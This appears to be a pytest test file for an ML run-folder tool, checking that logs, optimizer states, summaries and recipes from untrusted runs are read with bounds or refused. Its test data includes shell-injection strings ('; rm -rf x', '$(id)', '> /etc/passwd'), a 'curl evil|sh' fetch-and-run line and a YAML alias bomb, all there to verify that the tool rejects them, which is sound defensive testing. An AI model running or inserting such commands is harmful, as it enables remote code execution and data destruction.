"""Run folders of strangers: logs, states and command lines are read with bounds, or refused."""

from __future__ import annotations

import copy
import json
import os
import shlex
from pathlib import Path
from typing import Any

import pytest
import torch
from hypothesis import given
from hypothesis import strategies as st

from purenoise import eventlog
from purenoise.checksums import event_line
from purenoise.errors import RunError
from purenoise.eventlog import read_log
from purenoise.ourlines import line_of
from purenoise.report import report_runs
from purenoise.runlog import RunFolder, RunLog, read_events
from purenoise.stateform import fault_of_history, fault_of_state, load_optimizer
from purenoise.terminal.tables import next_command

from .fakeruns import fake_run

GROUPS = {"many": 0.5, "medium": None, "few": 0.25}
SCORES = {"accuracy": 0.5, "balanced_accuracy": 0.4, "nll": 1.0, "ece": 0.1, "groups": GROUPS}
RECORD = {"epoch": 0, "phase": 0, "lr": 0.1, "loss": 1.0, "accuracy": 0.5, "seconds": 1.0}


@given(st.lists(st.binary(max_size=30), max_size=8))
def test_any_bytes_are_events_or_counted(tmp_path_factory, lines: list[bytes]):
    """Every line that holds something is an event or counted as damaged."""
    path = tmp_path_factory.mktemp("log") / "events.jsonl"
    good = event_line({"event": "end"}).encode()
    whole = [line.replace(b"\n", b" ") for line in lines]
    path.write_bytes(b"".join(line + b"\n" for line in whole) + good)
    log = read_log(path)
    assert log.damaged + len(log.events) == sum(bool(line.strip()) for line in whole) + 1
    assert log.events[-1] == {"event": "end"}
    assert log.fault == ""


def test_long_lines_are_left_out_and_the_rest_is_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """A line beyond the bound counts as one, whatever its length, also at the end of the file."""
    monkeypatch.setattr(eventlog, "LONGEST", 100)
    good = event_line({"event": "end"})
    for n in (100, 101, 199, 200, 201, 1000):
        for tail in ("", "\n", "\n" + good):
            (tmp_path / "e").write_text(good + "x" * n + tail)
            log = read_log(tmp_path / "e")
            assert (len(log.events), log.damaged) == (1 + tail.endswith(good), 1), (n, tail)


def test_very_many_events_and_very_large_files_are_not_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """What is beyond a bound is said, and what was read until then is kept or not, as said."""
    (tmp_path / "e").write_text(event_line({"event": "end"}) * 10)
    monkeypatch.setattr(eventlog, "MOST_EVENTS", 9)
    log = read_log(tmp_path / "e")
    assert (len(log.events), log.fault) == (9, "it has more than 9 events")
    monkeypatch.setattr(eventlog, "MOST", 20)
    log = read_log(tmp_path / "e")
    assert (log.events, "larger than" in log.fault) == ([], True)
    assert len(read_log(tmp_path / "e", lambda event: event).events) == 9


def test_only_what_is_asked_for_is_kept(tmp_path: Path):
    """A trimmed log holds what the trimmer returns."""
    (tmp_path / "e").write_text(event_line({"event": "epoch", "epoch": 3, "confusion": [1]}))
    assert read_log(tmp_path / "e", lambda e: {"epoch": e["epoch"]}).events == [{"epoch": 3}]


@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir, lambda p: os.symlink("/dev/zero", p)])
def test_what_is_no_file_is_no_log(tmp_path: Path, make: Any):
    """A FIFO, a folder and a device are told, not waited for."""
    make(tmp_path / "e")
    log = read_log(tmp_path / "e")
    assert log.events == []
    assert log.said.startswith("it could not be read: it is")
    assert read_events(tmp_path / "e") == []


def test_the_report_says_what_was_left_out(tmp_path: Path):
    """Damaged lines are counted, run by run, below the curves; a whole log says nothing."""
    runs = [fake_run(tmp_path / "runs" / f"seed-{seed}", seed=seed) for seed in (0, 1)]
    report_runs([tmp_path / "runs"], out=tmp_path / "whole.html")
    assert "were not all read" not in (tmp_path / "whole.html").read_text()
    lines = (runs[0] / "events.jsonl").read_text().splitlines(keepends=True)
    assert len(lines) > 3
    (runs[0] / "events.jsonl").write_text(lines[0] + '{"torn\n' + "".join(lines[2:]) + "[1]\n")
    report_runs([tmp_path / "runs"], out=tmp_path / "r.html")
    for kind in ("html", "md"):
        text = " ".join((tmp_path / f"r.{kind}").read_text().split()).replace("\\", "")
        assert "The events of 1 of 2 runs were not all read, so curves may have gaps" in text
        assert "2 damaged lines were left out" in text
    (runs[1] / "events.jsonl").unlink()
    (runs[1] / "events.jsonl").mkdir()
    report_runs([tmp_path / "runs"], out=tmp_path / "r.html")
    text = (tmp_path / "r.html").read_text()
    assert "The events of 2 of 2 runs" in text
    assert "it could not be read: it is no ordinary file" in text


def test_a_log_of_other_types_is_written_anew(tmp_path: Path):
    """Events that cannot be of the run are dropped; those of the state take their place."""
    files = RunFolder(tmp_path)
    record = {**RECORD, "test": SCORES}
    wrong = [
        {"event": "epoch"}, {"event": "epoch", "epoch": "x"}, {"event": "epoch", "epoch": True},
        {"event": "epoch", "epoch": -1}, {"event": 1, "epoch": [1]}, {"event": "epoch", **RECORD},
        {"event": "epoch", **record, "val": "x"}, {"event": "epoch", **record, "x": 1},
    ]  # fmt: skip
    files.events.write_text("".join(map(event_line, [*wrong, {"event": "start", "time": 1}])))
    RunLog(files, 1, [record]).close()
    found = read_events(files.events)
    assert [e["event"] for e in found] == ["start", "epoch"]
    assert {key: found[1][key] for key in record} == record
    RunLog(files, 1, [record]).close()
    assert read_events(files.events) == found, "a good line stays as it is"


@pytest.mark.parametrize(
    ("command", "trusted"),
    [
        ("purenoise train digits seed=1", True),
        ("purenoise train 'my recipe.yaml'", True),
        ("python cifar_train.py --gpu 0", True),
        ("purenoise train; rm -rf x", False),
        ("purenoise train $(id)", False),
        ("purenoise train `id`", False),
        ("purenoise train > /etc/passwd", False),
        ("purenoise train a\nid", False),
        ("python -c 1", False),
        ("purenoise train 'a", False),
        (["purenoise", "train"], False),
        (None, False),
    ],
)
def test_a_line_to_go_on_is_one_of_ours(command: Any, trusted: bool):
    """A stranger's log cannot put another command into the line that people copy."""
    begun = {"event": "start", "command": command, "digest": "a1"}
    assert line_of([begun], "own", "a1") == (command if trusted else "own")
    assert line_of([begun], "own", "b2") == "own"
    assert line_of([], "own", "a1") == "own"


@given(st.lists(st.text(min_size=1, max_size=10), max_size=4))
def test_our_own_lines_are_taken(words: list[str]):
    """Whatever words were given to us, quoted as we do, the line comes back (but for newlines)."""
    line = shlex.join(["purenoise", "train", *words])
    begun = {"event": "start", "command": line, "digest": "a1"}
    assert line_of([begun], "", "a1") == ("" if "\n" in line else line)


def state(**changes: Any) -> dict[str, Any]:
    """Return the content of a good state, changed."""
    return {"epoch": 1, "step": 0, "model": {"w": torch.ones(2)}, "optimizer": {}, "meters": {},
            "history": [RECORD], "identity": {}, **changes}  # fmt: skip


def test_good_states_have_no_fault():
    """A state as we write it is taken."""
    assert fault_of_state(state()) == ""
    assert fault_of_state(state(meters={"loss": 1.0}, epoch=5)) == ""
    assert fault_of_history([RECORD, {**RECORD, "epoch": 1, "test": SCORES, "more": [1]}], 2) == ""


@pytest.mark.parametrize(
    "changes",
    [
        {"epoch": -1}, {"epoch": "1"}, {"epoch": 2**50}, {"step": None}, {"model": {"w": 1}},
        {"model": []}, {"optimizer": 1}, {"meters": {"a": "x"}}, {"meters": {"a": float("nan")}},
        {"history": {}}, {"history": [1]}, {"history": [RECORD] * 2}, {"identity": "x"},
    ],
)  # fmt: skip
def test_impossible_states_are_named(changes: dict[str, Any]):
    """The key at fault is the first word."""
    assert fault_of_state(state(**changes)).startswith((*changes, "it has records"))


@pytest.mark.parametrize(
    "record",
    [
        {}, {**RECORD, "loss": "x"}, {**RECORD, "test": None}, {**RECORD, "test": {}},
        {**RECORD, "val": {**SCORES, "groups": {}}}, {**RECORD, "epoch": 1},
        {**RECORD, "lr": float("inf")}, {**RECORD, "x": torch.ones(1)}, {**RECORD, "x": {1, 2}},
    ],
)  # fmt: skip
def test_impossible_records_are_named(record: dict[str, Any]):
    """A history that a log or a summary could not be written from is refused."""
    assert fault_of_history([record], 1)


def network(kind: Any) -> tuple[list[torch.nn.Parameter], torch.optim.Optimizer]:
    """Return two parameters after a step of an optimiser."""
    parameters = [torch.nn.Parameter(torch.ones(3, 2)), torch.nn.Parameter(torch.ones(4))]
    options = {"momentum": 0.9} if kind is torch.optim.SGD else {}
    optimizer = kind(parameters, lr=0.1, fused=True, **options)
    for parameter in parameters:
        parameter.grad = torch.ones_like(parameter)
    optimizer.step()
    return parameters, optimizer


KINDS = [torch.optim.SGD, torch.optim.Adam, torch.optim.AdamW]


@pytest.mark.parametrize("kind", KINDS)
def test_an_optimizer_takes_its_own_state(kind: Any):
    """What was saved is loaded, and the next step is the one that would have come."""
    (one, first), (other, second) = network(kind), network(kind)
    second.zero_grad()
    load_optimizer(second, copy.deepcopy(first.state_dict()))
    for parameters, optimizer in ((one, first), (other, second)):
        for parameter in parameters:
            parameter.grad = torch.full_like(parameter, 2.0)
        optimizer.step()
    assert all(torch.equal(a, b) for a, b in zip(one, other, strict=True))


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    "value",
    [torch.ones(1), torch.ones(2, 3), torch.ones(0), "x", None, torch.ones(3, 2).to_sparse()],
)  # fmt: skip
def test_a_state_that_a_fused_step_would_write_beyond_is_refused(kind: Any, value: Any):
    """A momentum smaller than its parameter would be written beyond its end: it is refused."""
    _, optimizer = network(kind)
    content = optimizer.state_dict()
    name = next(key for key in content["state"][0] if key != "step")
    content["state"][0][name] = value
    with pytest.raises((ValueError, AttributeError, TypeError)):
        load_optimizer(network(kind)[1], content)


@pytest.mark.parametrize("change", ["more", "less", "group", "list"])
def test_the_state_of_another_optimizer_is_refused(change: str):
    """Names that this optimiser does not keep, or lacks, and settings of other types."""
    _, optimizer = network(torch.optim.Adam)
    content = optimizer.state_dict()
    if change == "more":
        content["state"][0]["x"] = torch.ones(3, 2)
    if change == "less":
        del content["state"][0]["exp_avg"]
    if change == "group":
        content["param_groups"][0]["betas"] = "x"
    if change == "list":
        content["state"][0] = [1]
    with pytest.raises((ValueError, AttributeError, TypeError)):
        load_optimizer(network(torch.optim.Adam)[1], content)


@pytest.mark.parametrize("content", [b"[" * 100_000, b"[]", b"1", b"", b'{"a": 1}', b"\xff"])
def test_a_summary_that_is_none_is_refused(tmp_path: Path, content: bytes):
    """Brackets within brackets and other JSON are one sentence with what to do."""
    (tmp_path / "summary.json").write_bytes(content)
    with pytest.raises(RunError, match=r"summary\.json cannot be read: ") as refused:
        RunFolder(tmp_path).summary()
    assert "Remove that file" in refused.value.hint


def test_a_digest_of_aliases_is_not_printed(tmp_path: Path):
    """A digest that would be a billion values long is named without being written out."""
    lines = ["a0: &a0 [1, 1]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    (tmp_path / "recipe.yaml").write_text("\n".join([*lines, "digest: *a9", ""]))
    with pytest.raises(RunError, match="another recipe \\(without a digest, not 0123"):
        RunFolder(tmp_path).check_recipe("0123456789")


def test_damaged_events_are_told_by_their_number():
    """One line is singular."""
    assert eventlog.Log([], 1).said == "1 damaged line was left out"
    assert eventlog.Log([], 1200, "why").said == "1,200 damaged lines were left out; why"
    assert json.dumps(eventlog.Log().said) == '""'


def test_a_command_that_is_not_ours_is_shown_nowhere(tmp_path: Path):
    """A stranger's line stands neither in a report nor in a card nor after `try next`."""
    run = fake_run(tmp_path / "runs", "erm", 0)
    path = run / "summary.json"
    summary = json.loads(path.read_text())
    evil = "purenoise train digits; curl evil|sh"
    RunFolder(run).write_summary({**summary, "command": evil})
    report_runs([run], out=tmp_path / "page.html")
    for name in ("page.html", "page.md"):
        assert "curl" not in (tmp_path / name).read_text(encoding="utf-8")
    assert next_command({**summary, "command": evil}, "runs/x") == "purenoise evaluate runs/x"


@pytest.mark.parametrize("name", ["state", "tb"])
def test_what_stands_in_the_place_of_a_folder_is_told_before_training(tmp_path: Path, name: str):
    """A file, or a link to nowhere, where a run needs a folder, is refused at once."""
    for make in (Path.touch, lambda path: path.symlink_to(path)):
        run = tmp_path / make.__name__
        run.mkdir()
        make(run / name)
        with pytest.raises(RunError, match=f"{name} is no folder"):
            RunFolder(run).check_writable()
